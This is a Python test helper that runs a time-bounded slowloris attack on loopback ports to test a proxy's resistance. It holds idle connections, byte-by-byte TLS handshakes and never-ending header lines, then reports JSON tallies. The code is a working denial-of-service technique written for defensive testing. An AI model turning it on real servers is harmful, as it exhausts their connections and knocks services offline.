"""A bounded slowloris attacker for tests (test_proxy_slowloris.py), run as its own process:

    python -m lbtest.slowloris --port P [--port P2 ...] --connections N --duration S

For S seconds it holds N connections open to each 127.0.0.1:P (loopback only, never another
host): a third idle TCP connections that send nothing, a third slow TLS handshakes (a ClientHello
sent a byte every HANDSHAKE_BYTE_EVERY seconds), a third TLS connections that dribble a request
header, one line every HEADER_LINE_EVERY seconds and never end it. A connection the server
closes is replaced at once (at most REPLACE_PER_ROUND per round), so the pressure stays at N.
At the end it prints one JSON line: per port, per kind, how many connections it opened, how
many the server closed, how many it could not open, and how many it held open on average after
the first ramp-up.
"""

from __future__ import annotations

import argparse
import errno
import json
import resource
import selectors
import socket
import ssl
import sys
import time
from dataclasses import dataclass, field

KINDS = ("idle", "handshake", "headers")
HANDSHAKE_BYTE_EVERY = 5.0
HEADER_LINE_EVERY = 10.0
REPLACE_PER_ROUND = 50
ROUND = 0.1  # seconds per round of the loop
CONNECT_TIMEOUT = 3.0


def client_hello() -> bytes:
    """The bytes of a TLS ClientHello (made by Python's ssl on memory BIOs)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


@dataclass
class Conn:
    """One attacking connection."""

    port: int
    kind: str
    sock: socket.socket | ssl.SSLSocket
    next_at: float
    sent: int = 0  # bytes of the ClientHello sent (handshake), header lines sent (headers)


@dataclass
class Tally:
    """What happened to one port's connections of one kind."""

    opened: int = 0
    closed_by_server: int = 0
    failed: int = 0
    open_now: int = 0
    open_sum: int = 0  # open_now summed over the rounds after the first ramp-up
    rounds: int = 0


@dataclass
class Attack:
    """The whole attack's state."""

    ports: list[int]
    connections: int
    hello: bytes
    ctx: ssl.SSLContext
    sel: selectors.DefaultSelector = field(default_factory=selectors.DefaultSelector)
    tally: dict[tuple[int, str], Tally] = field(default_factory=dict)

    def open(self, port: int, kind: str, now: float) -> None:
        """One new connection of kind to port (a failure is counted, not raised)."""
        t = self.tally[(port, kind)]
        try:
            raw = socket.create_connection(("127.0.0.1", port), timeout=CONNECT_TIMEOUT)
        except OSError:
            t.failed += 1
            return
        sock: socket.socket | ssl.SSLSocket = raw
        try:
            if kind == "handshake":
                raw.sendall(self.hello[:8])
                sent = 8
            elif kind == "headers":
                sock = self.ctx.wrap_socket(raw, server_hostname="127.0.0.1")
                sock.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                sent = 1
            else:
                sent = 0
            sock.setblocking(False)
        except (OSError, ssl.SSLError):
            t.failed += 1
            raw.close()
            return
        c = Conn(port, kind, sock, now + self.every(kind), sent)
        self.sel.register(sock, selectors.EVENT_READ, c)
        t.opened += 1
        t.open_now += 1

    @staticmethod
    def every(kind: str) -> float:
        """Seconds between two dribbles of kind."""
        return HANDSHAKE_BYTE_EVERY if kind == "handshake" else HEADER_LINE_EVERY

    def close(self, c: Conn) -> None:
        """The server closed c (or answered it): forget it."""
        self.sel.unregister(c.sock)
        c.sock.close()
        t = self.tally[(c.port, c.kind)]
        t.closed_by_server += 1
        t.open_now -= 1

    def dribble(self, c: Conn) -> None:
        """The next byte of the ClientHello, or the next header line."""
        try:
            if c.kind == "handshake":
                if c.sent < len(self.hello) - 1:  # never the last byte
                    c.sock.send(self.hello[c.sent : c.sent + 1])
                    c.sent += 1
            elif c.kind == "headers":
                c.sock.send(f"X-Slow-{c.sent}: {'a' * 20}\r\n".encode())
                c.sent += 1
        except ssl.SSLWantWriteError:
            pass
        except OSError:
            self.close(c)

    def readable(self, c: Conn) -> None:
        """The server said something or closed: a close (or any answer) ends c."""
        try:
            data = c.sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except OSError:
            data = b""
        del data  # an end, or an answer to an unfinished request (400, 408): ended either way
        self.close(c)

    def run(self, duration: float) -> None:
        """The attack, for duration seconds."""
        for port in self.ports:
            for kind in KINDS:
                self.tally[(port, kind)] = Tally()
        start = time.monotonic()
        end = start + duration
        ramped = False
        while (now := time.monotonic()) < end:
            budget = REPLACE_PER_ROUND * len(self.ports) * len(KINDS) if ramped else 10**9
            for port in self.ports:
                for k, kind in enumerate(KINDS):
                    want = self.connections // len(KINDS) + (k < self.connections % len(KINDS))
                    t = self.tally[(port, kind)]
                    while t.open_now < want and budget > 0 and time.monotonic() < end:
                        before = t.failed
                        self.open(port, kind, time.monotonic())
                        budget -= 1
                        if t.failed > before:
                            break  # try again next round
            if not ramped:
                ramped = True
            else:
                for t in self.tally.values():
                    t.open_sum += t.open_now
                    t.rounds += 1
            for key, _ in self.sel.select(timeout=ROUND):
                self.readable(key.data)
            now = time.monotonic()
            for key in list(self.sel.get_map().values()):
                c = key.data
                if c.next_at <= now:
                    c.next_at = now + self.every(c.kind)
                    self.dribble(c)

    def report(self) -> dict[str, dict[str, dict[str, int]]]:
        """port -> kind -> opened, closed_by_server, failed, mean_open."""
        out: dict[str, dict[str, dict[str, int]]] = {}
        for (port, kind), t in self.tally.items():
            out.setdefault(str(port), {})[kind] = {
                "opened": t.opened,
                "closed_by_server": t.closed_by_server,
                "failed": t.failed,
                "mean_open": round(t.open_sum / t.rounds) if t.rounds else 0,
            }
        return out


def main() -> int:
    """The command line (see the module docstring)."""
    p = argparse.ArgumentParser(description="a bounded slowloris attack on 127.0.0.1")
    p.add_argument("--port", type=int, action="append", required=True)
    p.add_argument("--connections", type=int, required=True)
    p.add_argument("--duration", type=float, required=True)
    a = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = len(a.port) * a.connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    attack = Attack(a.port, a.connections, client_hello(), ctx)
    try:
        attack.run(a.duration)
    except OSError as e:
        if e.errno != errno.EMFILE:
            raise
        print(json.dumps({"error": "too many open files"}), flush=True)
        return 1
    print(json.dumps(attack.report()), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
